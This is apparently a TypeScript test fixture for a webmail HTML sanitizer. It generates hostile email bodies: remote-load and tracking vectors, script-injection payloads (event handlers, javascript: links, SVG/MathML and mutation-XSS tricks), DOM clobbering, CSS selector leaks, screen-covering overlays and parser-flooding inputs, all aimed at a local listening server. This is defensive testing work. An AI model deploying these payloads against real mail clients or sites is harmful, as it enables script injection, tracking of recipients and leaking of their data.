/*
 * Messages by which other webmails were broken into, or told a sender that they were opened. Each holds the words READ, which must
 * stay readable. @@ stands for the address of a listening server: nothing may ever ask it. RUN is script that leaves the
 * message's number as a mark.
 */
export const READ = 'Dear reader, this line stays.';
export const MARK = 'postriderOwned';
const RUN = `top.${MARK}=@N@;parent.${MARK}=@N@;window.${MARK}=@N@`;

const pictures: [string, string][] = [
  ['img', '<img src="@@/img">'],
  ['img without a scheme', '<img src="//@HOST@/img">'],
  ['img with a break in the scheme', '<img src="ht\ntp://@HOST@/img"><img src=" \t@@/img2">'],
  ['img srcset', '<img srcset="@@/1x 1x, @@/2x 2x">'],
  ['picture source', '<picture><source srcset="@@/source"><img src="@@/fallback"></picture>'],
  ['img with every lazy attribute', '<img loading="eager" fetchpriority="high" decoding="sync" src="@@/lazy" lowsrc="@@/low" dynsrc="@@/dyn" longdesc="@@/long">'],
  ['input image', '<input type="image" src="@@/input">'],
  ['background attribute of body', '</p><body background="@@/body"><p>'],
  ['background attribute of a table', '<table background="@@/table"><tr background="@@/tr"><td background="@@/td">x</td></tr></table>'],
  ['SVG image', '<svg width="9" height="9"><image href="@@/svg" xlink:href="@@/svg2" width="9" height="9"/></svg>'],
  ['SVG use', '<svg><use href="@@/use.svg#a"/></svg>'],
  ['SVG feImage', '<svg width="9" height="9"><filter id="f"><feImage href="@@/fe"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>'],
  ['SVG fill', '<svg width="9" height="9"><rect width="9" height="9" fill="url(@@/fill#a)" stroke="url(@@/stroke#a)" filter="url(@@/filter#a)" clip-path="url(@@/clip#a)" mask="url(@@/mask#a)"/></svg>'],
  ['SVG fill by CSS escapes', '<svg width="9" height="9"><rect width="9" height="9" style="fill:u\\72l(@@/fill2#a)"/></svg>'],
  ['SVG animate sets a source', `<svg><image width="9" height="9"><animate attributeName="href" values="@@/animate" dur="1s"/><set attributeName="href" to="@@/set"/></image></svg>`],
  ['SVG in a data image', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='@@/inner'/><style>@import '@@/innercss';</style></svg>">`],
  ['SVG favicon in a data frame', `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>"></object>`],
];

const media: [string, string][] = [
  ['video', '<video src="@@/video" poster="@@/poster" autoplay muted></video>'],
  ['video source and track', '<video autoplay muted><source src="@@/source"><track src="@@/track" default></video>'],
  ['audio', '<audio src="@@/audio" autoplay preload="auto"></audio>'],
  ['bgsound', '<bgsound src="@@/sound">'],
  ['object', '<object data="@@/object" type="text/html"></object>'],
  ['embed', '<embed src="@@/embed">'],
  ['applet', '<applet code="x" codebase="@@/applet" archive="@@/jar"></applet>'],
  ['iframe', '<iframe src="@@/iframe"></iframe>'],
  ['iframe srcdoc', `<iframe srcdoc="<img src='@@/srcdoc'><script>${RUN}</script>"></iframe>`],
  ['frameset', '<frameset><frame src="@@/frame"></frameset>'],
  ['portal and fencedframe', '<portal src="@@/portal"></portal><fencedframe src="@@/fenced"></fencedframe>'],
  ['model', '<model src="@@/model"><source src="@@/model2"></model>'],
];

const links: [string, string][] = [
  ['stylesheet', '<link rel="stylesheet" href="@@/css">'],
  ['prefetch and its kin', '<link rel="prefetch" href="@@/1"><link rel="prerender" href="@@/2"><link rel="preload" as="image" href="@@/3"><link rel="modulepreload" href="@@/4"><link rel="icon" href="@@/5"><link rel="manifest" href="@@/6"><link rel="preconnect" href="@@"><link rel="dns-prefetch" href="@@">'],
  ['speculation rules', '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@@/spec"]}]}</script>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=@@/refresh">'],
  ['meta refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  ['meta policy', '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri @@/report">'],
  ['meta set-cookie', '<meta http-equiv="set-cookie" content="a=b">'],
  ['base', '<base href="@@/"><img src="below"><a href="x">x</a>'],
  ['names looked up beforehand', '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="@@/dns">x</a>'],
  ['html manifest', '<html manifest="@@/manifest"><p>x</p></html>'],
  ['anchor ping', '<a href="#x" ping="@@/ping" id="click">x</a>'],
];

const styles: [string, string][] = [
  ['@import', '<style>@import "@@/import"; @import url(@@/import2);</style>'],
  ['@import by escapes', '<style>@\\69mport "@@/import3";</style>'],
  ['@font-face', '<style>@font-face{font-family:x;src:url(@@/font)} p{font-family:x}</style>'],
  ['background', '<style>p{background:url(@@/bg)}</style><p style="background-image:url(@@/bg2)">x</p>'],
  ['background without a scheme', '<p style="background:url(//@HOST@/bg3)">x</p>'],
  ['background by escapes', '<p style="background:u\\72l(@@/bg4)">x</p><p style="b\\61ckground-image:url(&quot;@@/bg5&quot;)">x</p>'],
  ['comments within url', '<p style="background/**/:url(/**/@@/bg6)">x</p>'],
  ['unclosed url', '<p style="background:url(@@/bg7">x</p>'],
  ['image-set', '<p style="background-image:image-set(\'@@/set\' 1x)">x</p><p style="background-image:-webkit-image-set(url(@@/set2) 1x)">x</p>'],
  ['cross-fade and image', '<p style="background-image:-webkit-cross-fade(url(@@/a),url(@@/b),50%)">x</p><p style="background-image:image(\'@@/c\')">x</p>'],
  ['list, cursor, content, mask, border, shape', '<ul style="list-style-image:url(@@/list)"><li>x</li></ul><p style="cursor:url(@@/cursor),auto;border-image:url(@@/border) 1;mask-image:url(@@/mask);-webkit-mask:url(@@/mask2);shape-outside:url(@@/shape);float:left;clip-path:url(@@/clip);filter:url(@@/filter);offset-path:url(@@/path)">x</p><style>p::before{content:url(@@/content)}</style>'],
  ['variable that holds a url', '<style>:root{--a:url(@@/var)} p{background:var(--a)}</style><p style="--b:url(@@/var2);background:var(--b)">x</p>'],
  ['rules by hover, media, layer, container and scope', '<style>@media all{p{background:url(@@/m)}} @supports(color:red){p{background:url(@@/s)}} @layer a{p{background:url(@@/l)}} @scope{p{background:url(@@/sc)}} p{&{background:url(@@/nest)}} @starting-style{p{background:url(@@/start)}} @keyframes k{from{background:url(@@/k1)}to{background:url(@@/k2)}} p{animation:k 1s infinite} @property --x{syntax:"<url>";inherits:true;initial-value:url(@@/prop)} p{background:var(--x)}</style>'],
  ['namespace and charset', '<style>@charset "utf-8"; @namespace url(@@/ns); svg|a{color:red}</style>'],
  ['attribute selector tells secrets', '<style>a[href^="h"]{background:url(@@/leak)} p::first-line{background:url(@@/leak2)} p::selection{background:url(@@/leak3)}</style><a href="https://example.com">x</a>'],
  ['behaviour, expression, moz-binding', `<p style="behavior:url(@@/htc);-moz-binding:url(@@/xbl#x);width:expression(${RUN})">x</p>`],
  ['style that closes itself late', '<style><!-- </style><img src="@@/late"> --></style>'],
  ['style in an attribute leaves by a comment', '<p style="color:red;/*"></p><p title="*/background:url(@@/comment)">x</p>'],
  ['covers everything', '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red;opacity:.01">x</div><dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog><div popover="manual" style="display:block;position:fixed;inset:0">x</div>'],
  ['grows for ever', '<div style="height:calc(100vh + 10px)">x</div>'],
];

const scripts: [string, string][] = [
  ['script', `<script>${RUN}</script><script src="@@/script"></script><script type="module" src="@@/module"></script>`],
  ['event attributes', `<img src="x" onerror="${RUN}"><p onmouseover="${RUN}" onfocus="${RUN}" tabindex="0" autofocus>x</p><body onload="${RUN}" onpageshow="${RUN}" onresize="${RUN}">`],
  ['details ontoggle', `<details open ontoggle="${RUN}">x</details>`],
  ['animation events', `<style>@keyframes q{}</style><p style="animation:q 1s" onanimationstart="${RUN}" onanimationend="${RUN}">x</p>`],
  ['marquee', `<marquee onstart="${RUN}" behavior="alternate">x</marquee>`],
  ['SVG script and onload', `<svg onload="${RUN}"><script>${RUN}</script><a href="javascript:${RUN}"><text y="9">x</text></a></svg>`],
  ['SVG animate by', `<svg><a id="click"><animate attributeName="href" by="javascript:${RUN}" dur="1s" fill="freeze"/><animate attributeName="href" values="javascript:${RUN}" begin="0s"/><text y="20">click</text></a></svg>`],
  ['SVG onrepeat', `<svg><animate onbegin="${RUN}" onrepeat="${RUN}" attributeName="x" dur="0.01s" repeatCount="2"/></svg>`],
  ['SVG foreignObject', `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`],
  ['MathML link', `<math href="javascript:${RUN}"><mtext>x</mtext></math>`],
  ['link to a script', `<a id="click" href="javascript:${RUN}">x</a><a href="java\tscript:${RUN}">y</a><a href="&#1;javascript:${RUN}">z</a>`],
  ['link in SVG to a script', `<svg><a id="click" xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`],
  ['link to data', `<a id="click" href="data:text/html,<script>${RUN}</script>">x</a>`],
  ['link to vbscript and blob', `<a href="vbscript:x">x</a><a id="click" href="blob:https://example.com/x">x</a>`],
  ['form', `<form action="@@/form" id="f"><input name="q" value="secret" autofocus><button id="click" formaction="@@/formaction">go</button></form><button form="f" formaction="javascript:${RUN}">x</button>`],
  ['isindex', '<isindex action="@@/isindex" type="image" src="@@/isindex2">'],
  ['object of a script', `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><iframe src="javascript:${RUN}"></iframe>`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`],
  ['noembed, noframes, xmp, plaintext, textarea, title', ['noembed', 'noframes', 'xmp', 'textarea', 'title', 'iframe'].map((n) => `<${n}><p title="</${n}><img src=x onerror='${RUN}'><img src='@@/${n}'>"></${n}>`).join('')],
  ['template and shadow root', `<template shadowrootmode="open"><script>${RUN}</script><img src="@@/shadow"></template><div><template shadowrootmode="open"><style>@import '@@/shadowcss';</style><img src="@@/shadow2"></template></div>`],
  ['mutation by MathML', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['mutation by SVG and style', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ['mutation by form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ['mutation by deep nesting', `${'<div>'.repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src onerror=${RUN}>"></a></style></svg></caption></table>${'</div>'.repeat(600)}`],
  ['namespaced attributes', `<p xlink:href="javascript:${RUN}" xml:base="@@/" svg:onload="${RUN}">x</p>`],
  ['comment that ends early', `<!--><img src=x onerror=${RUN}>--><!--!><img src=x onerror=${RUN}>-->`],
  ['CDATA and processing instructions', `<![CDATA[<img src=x onerror=${RUN}>]]><?xml-stylesheet href="@@/xsl"?>`],
  ['clobbering', '<img name="body" src="x"><img name="createElement"><form name="adoptedStyleSheets"></form><a id="defaultView" href="#"></a><img name="documentElement"><form id="x" name="getElementById"><input name="attributes"></form>'],
  ['custom element', `<x-a is="script" onclick="${RUN}">x</x-a><button is="x" onclick="${RUN}">x</button>`],
  ['popover and commands', `<button popovertarget="p" popovertargetaction="show">x</button><div id="p" popover onbeforetoggle="${RUN}">x</div>`],
  ['hundred thousand open tags', '<b><i>'.repeat(50_000)],
];

/* They hold up whoever looks at each thing as often as there are others: a test that never ends has found one. */
const floods: [string, string][] = [
  ['quotes and nothing else', '<div class="gmail_quote"></div>'.repeat(30_000)],
  ['a line of line breaks', `<p>${'\n'.repeat(400_000)}-</p>`],
  ['rules within rules', `<style>${'@media all{'.repeat(20_000)}</style>`],
  ['a style of many properties', `<p style="${Array.from({ length: 40_000 }, (_, i) => `--a${i}:url(@@/v)`).join(';')}">x</p>`],
  ['a sheet of many properties', `<style>p{${Array.from({ length: 40_000 }, (_, i) => `--a${i}:url(@@/v)`).join(';')}}</style>`],
];

export interface Hostile {
  name: string;
  html: string;
  /** There to hold us up, and not to get past something. */
  isFlood?: boolean;
}

const around = (html: string): string => `<html><body><p>${READ}</p>${html}</body></html>`;
/* The tricks of the head are read in the head, too. */
const inHead = (html: string): string => `<html><head>${html}</head><body><p>${READ}</p></body></html>`;

/* `at` is the listening server, "http://127.0.0.1:5000"; the first part of a path that it is asked for is the message's number. */
export function hostileMail(at: string): Hostile[] {
  const host = at.replace(/^https?:\/\//, '');
  const all = [...pictures, ...media, ...links, ...styles, ...scripts].map(([name, html]) => ({ name, html: around(html) }));
  const heads = [...links, ...styles].map(([name, html]) => ({ name: `${name}, in the head`, html: inHead(html) }));
  const flooding = floods.map(([name, html]) => ({ name, html: around(html), isFlood: true }));
  return [...all, ...heads, ...flooding].map(({ name, html, ...rest }, i) => ({ name, ...rest, html: html.replaceAll('@N@', String(i)).replaceAll('@@', `${at}/${i}`).replaceAll('@HOST@', `${host}/${i}`) }));
}
